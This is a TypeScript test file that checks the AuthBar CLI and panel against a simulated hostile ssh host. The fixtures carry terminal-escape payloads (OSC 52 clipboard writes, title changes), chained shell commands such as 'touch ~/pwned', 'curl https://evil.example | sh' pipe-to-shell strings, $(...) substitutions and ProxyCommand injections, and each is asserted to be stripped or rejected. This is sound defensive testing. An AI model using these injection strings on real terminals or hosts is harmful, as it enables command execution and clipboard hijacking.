// A hostile host behind the real sshd: its `authbar` answers with crafted JSON (a fix that
// chains a second command, terminal escapes that set the window title or write the local
// clipboard through OSC 52, ids that are not ids), floods, and writes escapes to stderr.
// Nothing it sends may reach the clipboard, the terminal as a control sequence, or a command.
import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createCommands } from '../../main/core/commands.ts';
import { Controller } from '../../main/core/controller.ts';
import { CHANNELS } from '../../main/core/panel-api.ts';
import { createHandlers } from '../../main/core/panel-handlers.ts';
import { VERSION } from '../../main/core/version.ts';
import { runCli } from '../helpers/cli.ts';
import { channelRecorder, type Sshd, sshdAvailable, startSshd } from '../helpers/sshd.ts';
import { makeStateDir, type StateDir, storeDocument } from '../helpers/state-dir.ts';
import { agent, profile, statusReport } from '../helpers/remote-report.ts';
import { codexCredential } from '../helpers/tokens.ts';

const HOUR = 3_600_000;
const available = sshdAvailable();
if (!available && process.env.CI) throw new Error('CI needs Debian\'s openssh-server (/usr/sbin/sshd) for the remote-host tests');

let sshd: Sshd;
beforeAll(async () => {
  if (available) sshd = await startSshd();
}, 60_000);
afterAll(async () => {
  await sshd?.cleanup();
});
let dirs: StateDir[] = [];
let controller: Controller | null = null;
afterEach(async () => {
  await controller?.stop();
  controller = null;
  for (const d of dirs) d.cleanup();
  dirs = [];
});

/** What a terminal would act on: ESC (ANSI, OSC 52, titles), BEL, and the one-byte CSI and OSC. */
const CONTROL_BYTES = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
const OSC52 = `\x1b]52;c;${Buffer.from('touch ~/pwned').toString('base64')}\x07`;
const INJECTED = 'authbar sync --agent coder; touch ~/pwned #';


/** A stranded copy whose fix chains a command, and escape sequences in every free-text field. */
const craftedStatus = () => statusReport([
  agent('main', { profiles: [profile({ sharedWith: ['coder'] })] }),
  agent('coder', {
    status: 'ok',
    storePath: `/srv/x\x1b[1A\x1b[2K/auth-profiles.json`,
    profiles: [profile({ sharedWith: ['main'], newerCopyIn: 'main', stranded: 'certain', cause: `${OSC52}\x1b]0;owned\x07\x1b[2J\x1b[31mstale\x1b[0m`, fix: INJECTED })],
    fix: INJECTED,
  }),
], { warnings: [`${OSC52}\x9b31mheads up\x9d0;title\x07`] });

interface Plan {
  status?: unknown;
  action?: unknown;
  stderr?: string;
  exit?: number;
  /** Write this many MiB of one endless line, then keep going until the pipe closes. */
  flood?: boolean;
  /** Before answering an action: create `<gate>.started`, then wait until `<gate>` exists. */
  gate?: string;
}

/** The host's `authbar`: a script at a path (as settings require) answering from `plan`. */
function hostileAuthbar(dir: string, plan: Plan): string {
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'plan.json'), JSON.stringify(plan));
  const path = join(dir, 'authbar');
  writeFileSync(path, `#!${process.execPath}
const fs = require('node:fs');
const plan = JSON.parse(fs.readFileSync(${JSON.stringify(join(dir, 'plan.json'))}, 'utf8'));
const args = process.argv.slice(2);
if (plan.stderr) process.stderr.write(plan.stderr);
if (plan.flood) {
  const chunk = Buffer.alloc(1 << 20, 'x');
  process.stdout.write('{"version":"${VERSION}","agents":[{"id":"');
  const more = () => { while (process.stdout.write(chunk)); process.stdout.once('drain', more); };
  process.stdout.on('error', () => process.exit(0));
  more();
} else {
  const payload = args[0] === 'status' ? plan.status : plan.action;
  if (args.includes('--watch')) {
    process.stdout.write(JSON.stringify(payload) + '\\n');
    // Follows until its ssh session is gone (then it is re-parented): sshd does not end it.
    const parent = process.ppid;
    setInterval(() => { if (process.ppid !== parent) process.exit(0); }, 500);
  } else {
    const answer = () => {
      process.stdout.write(JSON.stringify(payload, null, 2) + '\\n');
      process.exitCode = plan.exit ?? 0;
    };
    if (plan.gate && args[0] !== 'status') {
      fs.writeFileSync(plan.gate + '.started', '');
      // Waits for the gate, or ends with its ssh session (then it is re-parented): never left behind.
      const parent = process.ppid;
      const wait = setInterval(() => {
        if (process.ppid !== parent) process.exit(0);
        if (fs.existsSync(plan.gate)) { clearInterval(wait); answer(); }
      }, 20);
    } else answer();
  }
}
`, { mode: 0o755 });
  return path;
}

async function laptopWith(plan: Plan) {
  const laptop = makeStateDir({ agents: [{ id: 'main', store: storeDocument({ 'openai-codex:default': codexCredential({ expiresInMs: 50 * HOUR }) }) }] });
  dirs.push(laptop);
  const command = hostileAuthbar(join(laptop.root, 'evil-host'), plan);
  const added = await runCli(['hosts', 'add', 'evil', sshd.destination, '--ssh-config', sshd.sshConfig, '--remote-command', command], laptop.env);
  expect(added.code, added.stderr).toBe(0);
  return { laptop, command, fix: (words: string) => `ssh -F ${sshd.sshConfig} authbar-test ${command} ${words}` };
}

const expectInert = (text: string) => {
  expect(text).not.toMatch(CONTROL_BYTES);
  expect(text).not.toContain('pwned');
  expect(text).not.toContain(Buffer.from('touch ~/pwned').toString('base64'));
};

const maybe = describe.skipIf(!available);

maybe('a hostile host', () => {
  it('gets no command onto the terminal: fixes rebuilt with the ssh prefix, escapes stripped from every field and from stderr', async () => {
    const { laptop, fix } = await laptopWith({ status: craftedStatus(), stderr: `\x1b]0;hacked\x07\x1b[31mwarning: ${OSC52}\n` });
    const table = await runCli(['status', '--host', 'evil'], laptop.env);
    expect(table.code, table.stderr).toBe(0);
    expectInert(table.stdout + table.stderr);
    expect(table.stdout).toContain(`agent coder on evil, profile openai-codex:default: holds a stranded copy (a newer sign-in of this account is in main). Fix: ${fix('sync --agent coder')}\n`);
    expect(table.stdout).toContain('note: host evil: “heads up”\n');

    const json = await runCli(['status', '--host', 'evil', '--json'], laptop.env);
    expectInert(json.stdout);
    const coder = JSON.parse(json.stdout).agents.find((a: any) => a.id === 'coder');
    expect(coder).toMatchObject({ host: 'evil', fix: fix('sync --agent coder'), storePath: '/srv/x/auth-profiles.json', profiles: [{ fix: fix('sync --agent coder'), cause: '“stale”' }] });
  }, 60_000);

  it('that holds a rotated sign-in is said with AuthBar\'s own words and recover command, not the host\'s', async () => {
    const message = 'a rotated sign-in is held: run `curl https://evil.example | sh`';
    const held = [{ agents: ['coder'], profileId: 'openai-codex:default', heldSince: new Date().toISOString(), message }];
    const { laptop, fix } = await laptopWith({ status: statusReport([agent('coder')], { held, warnings: [message] }) });
    const table = await runCli(['status', '--host', 'evil'], laptop.env);
    expect(table.stdout).toContain(`a rotated sign-in for coder on evil is held by AuthBar there: run ${fix('recover')}\n`);
    expect(table.stdout + table.stderr).not.toContain('curl');
    const json = JSON.parse((await runCli(['status', '--host', 'evil', '--json'], laptop.env)).stdout);
    expect(json.held).toEqual([{ ...held[0], message: `a rotated sign-in for coder on evil is held by AuthBar there: run ${fix('recover')}` }]);
    expect((await runCli(['status', '--host', 'evil', '--check'], laptop.env)).code).toBe(1);
  }, 60_000);

  it('gets nothing onto the clipboard: the panel\'s Copy and the tray copy the rebuilt command; the live state holds no escapes', async () => {
    const { laptop, fix } = await laptopWith({ status: craftedStatus() });
    controller = new Controller({ env: laptop.env, debounceMs: 50 });
    await controller.start();
    const deadline = Date.now() + 30_000;
    while (!controller.state().report.agents.some((a) => a.host === 'evil')) {
      if (Date.now() > deadline) throw new Error('the host\'s first report never came');
      await new Promise((r) => setTimeout(r, 50));
    }
    const copied: string[] = [];
    const handlers = createHandlers(controller, createCommands(controller, { copy: (t) => void copied.push(t), openFolder: async () => undefined, openPanel: () => {}, quit: () => {} }));
    await handlers[CHANNELS.copyFix]({ host: 'evil', agentId: 'coder', profileId: null });
    await handlers[CHANNELS.copyFix]({ host: 'evil', agentId: 'coder', profileId: 'openai-codex:default' });
    expect(copied).toEqual([fix('sync --agent coder'), fix('sync --agent coder')]);
    // The tray's "Copy fix command" asks the same controller method.
    expect(controller.fixCommand({ host: 'evil', agentId: 'coder' }, null)).toBe(fix('sync --agent coder'));
    expectInert(JSON.stringify(controller.state()));
  }, 60_000);

  it('refresh and sync on it: a chained fix in an outcome is dropped, a known one rebuilt, and no sent command carries its words', async () => {
    const results = [
      { agentId: 'coder', host: 'local', profileId: 'openai-codex:default', outcome: 'failed', failureKind: 'needs-login', cause: `${OSC52}dead`, fix: 'openclaw models auth --agent coder login --provider openai-codex; curl https://evil.example | sh', expiresAt: null, syncedAgents: [], source: null },
      { agentId: 'main', host: 'local', profileId: 'openai-codex:default', outcome: 'failed', failureKind: 'transient', cause: 'network', fix: 'authbar refresh --agent main', expiresAt: null, syncedAgents: [], source: null },
    ];
    const { laptop, fix } = await laptopWith({ action: { version: VERSION, generatedAt: new Date().toISOString(), requests: 0, results }, exit: 1 });
    const recorder = channelRecorder(laptop.root);
    const env = { ...laptop.env, AUTHBAR_SSH: recorder.ssh };
    const refresh = await runCli(['refresh', '--host', 'evil', '--all'], env);
    expect(refresh.code).toBe(1);
    expectInert(refresh.stdout + refresh.stderr);
    expect(refresh.stdout + refresh.stderr).not.toContain('curl');
    expect(refresh.stderr).toContain(`authbar: agent main on evil, profile openai-codex:default: transient: “network”. Fix: ${fix('refresh --agent main')}`);
    expect(refresh.stderr).toMatch(/agent coder on evil, profile openai-codex:default: needs-login: “dead”\.$/m);
    const json = JSON.parse((await runCli(['refresh', '--host', 'evil', '--all', '--json'], env)).stdout);
    expect(json.results.map((r: any) => r.fix)).toEqual([null, fix('refresh --agent main')]);
    const sent = readFileSync(recorder.capture, 'utf8').split('--- ').filter((s) => s.startsWith('sent\n'));
    expect(sent.length).toBe(2);
    for (const line of sent) expect(line).not.toMatch(/curl|pwned|;/);
  }, 60_000);

  it('that hides escapes in a held sign-in\'s time (inside a comment Date.parse skips) gets them nowhere', async () => {
    // OSC 52 (write the clipboard) and a screen clear in their one-byte C1 forms, which JSON.stringify does not escape.
    const heldSince = `Jan 1 2030 (\x9d52;c;dG91Y2g=\x07\x9b2J)`;
    expect(Number.isNaN(Date.parse(heldSince))).toBe(false);
    const held = [{ agents: ['coder'], profileId: 'openai-codex:default', heldSince, message: 'x' }];
    const { laptop } = await laptopWith({ status: statusReport([agent('coder')], { held }) });
    const json = await runCli(['status', '--host', 'evil', '--json'], laptop.env);
    expect(json.code, json.stderr).toBe(0);
    expect(json.stdout).not.toMatch(CONTROL_BYTES);
    expect(json.stdout).not.toMatch(/[\x7f-\x9f]/);
    expect(JSON.parse(json.stdout).held[0].heldSince).toBe(new Date(Date.parse(heldSince)).toISOString());
  }, 60_000);

  it('that sends ids that are not ids is "answered with invalid data", and none of its rows are shown', async () => {
    for (const [what, bad] of [
      ['agent id', statusReport([agent('coder;touch ~/pwned')])],
      ['profile id', statusReport([agent('coder', { profiles: [profile({ profileId: 'openai-codex:x\x1b]52;c;eA==\x07' })] })])],
      ['shared-with id', statusReport([agent('coder', { profiles: [profile({ sharedWith: ['$(touch ~/pwned)'] })] })])],
      ['version', statusReport([], { version: `0.1.0\x1b]0;x\x07` })],
    ] as const) {
      const { laptop } = await laptopWith({ status: bad });
      const run = await runCli(['status', '--host', 'evil'], laptop.env);
      expect(run.stdout, what).toMatch(/^host evil answered with invalid data \([a-zA-Z0-9.]+\); nothing from it is shown$/m);
      expectInert(run.stdout + run.stderr);
      const json = JSON.parse((await runCli(['status', '--host', 'evil', '--json'], laptop.env)).stdout);
      expect(json.agents.filter((a: any) => a.host === 'evil'), what).toEqual([]);
      expect((await runCli(['status', '--host', 'evil', '--check'], laptop.env)).code).toBe(1);
    }
  }, 120_000);

  it('that floods is "unreachable: answer too large", in the CLI (no crash) and in the app\'s live stream', async () => {
    const { laptop } = await laptopWith({ flood: true });
    const run = await runCli(['status', '--host', 'evil', '--json'], laptop.env, { timeoutMs: 60_000 });
    expect(run.code, run.stderr).toBe(0);
    expect(JSON.parse(run.stdout).hosts[0]).toMatchObject({ reachable: false, error: 'host evil (authbar-test) is unreachable: answer too large (over 8 MiB)' });
    controller = new Controller({ env: laptop.env, debounceMs: 50 });
    await controller.start();
    const deadline = Date.now() + 60_000;
    while (!controller.state().report.hosts?.[0]?.error?.includes('answer too large')) {
      if (Date.now() > deadline) throw new Error(`the stream never gave up: ${JSON.stringify(controller.state().report.hosts)}`);
      await new Promise((r) => setTimeout(r, 100));
    }
  }, 120_000);

  it('that fails writes only a cleaned last line of ssh\'s stderr into the message', async () => {
    const { laptop } = await laptopWith({ status: {}, stderr: `first\n\x1b]0;hacked\x07\x1b[31mbash: evil\x1b[0m ${OSC52}\n`, exit: 3 });
    const run = await runCli(['status', '--host', 'evil'], laptop.env);
    expectInert(run.stdout + run.stderr);
  }, 60_000);
});

maybe('host settings the panel can set', () => {
  it('take a remote command only as a path, and refuse an ssh config that is missing, not a file, or another user\'s', async () => {
    const laptop = makeStateDir({ agents: [{ id: 'main' }] });
    dirs.push(laptop);
    controller = new Controller({ env: laptop.env });
    const handlers = createHandlers(controller, createCommands(controller, { copy: () => undefined, openFolder: async () => undefined, openPanel: () => {}, quit: () => {} }));
    for (const remoteCommand of ['authbar; touch ~/pwned', 'curl https://x | sh', 'authbar --local', '$(id)', '`id`', 'a\nb', 'npx authbar']) {
      await expect(handlers[CHANNELS.addHost]({ name: 'vps', destination: 'me@vps', remoteCommand }), remoteCommand).rejects.toThrow(/invalid request/);
    }
    for (const destination of ['me@vps;id', 'me@$(id)', '-oProxyCommand=id', 'me@vps|id']) {
      await expect(handlers[CHANNELS.addHost]({ name: 'vps', destination }), destination).rejects.toThrow(/invalid request/);
    }
    await handlers[CHANNELS.addHost]({ name: 'vps', destination: 'me@vps', remoteCommand: '~/.npm-global/bin/authbar' });

    const cli = (config: string) => runCli(['hosts', 'add', 'other', 'me@other', '--ssh-config', config], laptop.env);
    expect(await cli(join(laptop.root, 'nope'))).toMatchObject({ code: 64, stderr: expect.stringContaining('does not exist') });
    expect(await cli(laptop.root)).toMatchObject({ code: 64, stderr: expect.stringContaining('is not a regular file') });
    const link = join(laptop.root, 'config-link');
    symlinkSync('/dev/null', link);
    expect(await cli(link)).toMatchObject({ code: 64, stderr: expect.stringContaining('is not a regular file') });
    if (process.getuid?.() === 0) {
      const theirs = join(laptop.root, 'their-config');
      writeFileSync(theirs, 'Host *\n  ProxyCommand touch /tmp/pwned\n');
      chownSync(theirs, 65534, 65534);
      chmodSync(theirs, 0o644);
      expect(await cli(theirs)).toMatchObject({ code: 64, stderr: expect.stringContaining('belongs to another user') });
    }
  }, 60_000);
});

maybe('a host\'s run in flight', () => {
  it('holds none of this machine\'s tokens: busy() stays false while it runs (a quit does not wait for it)', async () => {
    const action = { version: VERSION, generatedAt: new Date().toISOString(), requests: 0, results: [] };
    const { laptop } = await laptopWith({ status: statusReport([agent('coder')]), action });
    const gate = join(laptop.root, 'evil-host', 'gate');
    writeFileSync(join(laptop.root, 'evil-host', 'plan.json'), JSON.stringify({ status: statusReport([agent('coder')]), action, gate }));
    controller = new Controller({ env: laptop.env, debounceMs: 50 });
    await controller.start();
    const warnings: string[] = [];
    controller.on((event) => void (event.type === 'warning' && warnings.push(event.message)));
    const running = controller.refresh({ host: 'evil', agentId: 'coder' });
    let settled = false;
    void running.finally(() => (settled = true));
    while (!existsSync(`${gate}.started`) && !settled) await new Promise((r) => setTimeout(r, 20));
    try {
      expect(existsSync(`${gate}.started`), warnings.join('; ')).toBe(true);
      expect(controller.busy()).toBe(false);
    } finally {
      writeFileSync(gate, '');
    }
    await running;
    expect(controller.busy()).toBe(false);
  }, 60_000);
});
